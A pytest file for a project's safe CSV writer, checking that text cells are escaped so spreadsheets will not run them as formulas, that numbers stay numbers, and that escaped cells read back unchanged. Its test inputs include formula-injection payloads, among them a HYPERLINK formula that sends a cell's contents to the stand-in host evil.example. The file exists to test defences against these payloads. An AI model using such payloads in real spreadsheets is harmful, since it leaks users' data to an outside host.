"""The one CSV writer: no text cell a spreadsheet would run as a formula, numbers stay
numbers, and our own files read back to the original text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from arenalens.csv_safe import (
    FORMULA_LEADS,
    csv_text,
    formula_cells,
    restore_cell,
    restore_record,
    safe_cell,
    write_csv,
    write_rows,
)

TRICKY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1 555 0100",
    "-5",
    "@SUM(A1:A9)",
    "\tcmd",
    "\rcmd",
    "'=already quoted",
    "''=twice",
    "'plain with an apostrophe",
    "'",
    "it's fine",
    "",
    "plain",
    "a=b",
]


@pytest.mark.parametrize("text", TRICKY)
def test_every_text_reads_back_as_written(text):
    assert restore_cell(safe_cell(text)) == text


@pytest.mark.parametrize("text", TRICKY)
def test_no_escaped_cell_starts_a_formula(text):
    assert safe_cell(text)[:1] not in FORMULA_LEADS


def test_numbers_stay_numbers_and_only_text_is_escaped():
    frame = pd.DataFrame(
        {
            "cluster_id": [-1, 3],
            "share": [-0.25, 0.5],
            "name": ["=cmd()", "-rf"],
            "keywords": [["=a", "b"], ["c"]],
            "missing": [None, "@x"],
        }
    )
    text = csv_text(frame)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["cluster_id"] for r in rows] == ["-1", "3"]
    assert [r["share"] for r in rows] == ["-0.25", "0.5"]
    assert [r["name"] for r in rows] == ["'=cmd()", "'-rf"]
    assert rows[0]["keywords"] == "'=a, b"
    assert rows[1]["missing"] == "'@x"
    assert formula_cells(text) == 0
    assert formula_cells(frame.to_csv(index=False)) == 3  # what plain pandas would have written


def test_repeated_column_names_and_formula_headers_are_written():
    frame = pd.DataFrame([["=a", 1, "@b"]], columns=["x", "n", "x"])
    frame["=h"] = ["-c"]
    assert csv_text(frame) == "x,n,x,'=h\n'=a,1,'@b,'-c\n"


def test_files_and_rows_are_written_safely(tmp_path: Path):
    write_csv(pd.DataFrame({"a": ["=1+1"], "b": [2]}), tmp_path / "frame.csv")
    assert (tmp_path / "frame.csv").read_text() == "a,b\n'=1+1,2\n"
    count = write_rows(tmp_path / "rows.csv", ["who", "what"], [{"who": "@me", "what": "ok"}])
    assert count == 1
    with (tmp_path / "rows.csv").open(newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row == {"who": "'@me", "what": "ok"}
    assert restore_record(row) == {"who": "@me", "what": "ok"}


def test_every_csv_writer_in_the_code_goes_through_the_safe_writer():
    """No module writes CSV on its own (pandas to_csv, csv.writer/DictWriter, a download
    button) except arenalens/csv_safe.py and the dashboard's one download helper."""
    root = Path(__file__).resolve().parents[1]
    pattern = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|st\.download_button\(")
    offenders = []
    for package in ("arenalens", "taxonomy", "coding", "ranking", "inference", "dashboard"):
        for path in sorted((root / package).rglob("*.py")):
            relative = path.relative_to(root).as_posix()
            if relative in ("arenalens/csv_safe.py",):
                continue
            for number, line in enumerate(path.read_text().splitlines(), start=1):
                if pattern.search(line) and not (
                    relative == "dashboard/ui.py" and "st.download_button(" in line
                ):
                    offenders.append(f"{relative}:{number}: {line.strip()}")
    assert offenders == []
